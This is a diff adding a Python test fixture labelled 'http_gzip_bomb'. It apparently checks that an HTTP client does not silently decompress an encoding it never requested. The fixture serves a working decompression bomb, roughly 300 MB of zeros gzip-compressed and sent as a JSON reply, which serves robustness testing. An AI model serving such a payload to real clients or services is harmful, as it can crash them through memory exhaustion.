@@ -1,0 +1,57 @@
+# ATTACK: http_gzip_bomb
+# KIND: reply
+# MUST: no transparent decompression of an encoding we did not ask for
+
+import asyncio
+import os
+import socket
+
+
+def listener():
+    for fd in range(3, 64):
+        try:
+            s = socket.socket(fileno=fd)
+            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
+                return s
+            s.detach()
+        except OSError:
+            pass
+
+
+def serve(answer):
+    async def h(r, w):
+        try:
+            await r.readuntil(b"\r\n\r\n")
+            await answer(r, w)
+        except Exception:
+            pass
+        finally:
+            try:
+                w.close()
+            except Exception:
+                pass
+
+    async def main():
+        s = listener()
+        srv = await asyncio.start_unix_server(h, sock=s)
+        await srv.serve_forever()
+
+    asyncio.run(main())
+
+
+import zlib
+
+c = zlib.compressobj(9, 8, 31)
+z = b"".join(c.compress(b"\0" * (1 << 20)) for _ in range(300)) + c.flush()
+
+
+async def ans(r, w):
+    w.write(
+        b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
+        % len(z)
+        + z
+    )
+    await w.drain()
+
+
+serve(ans)
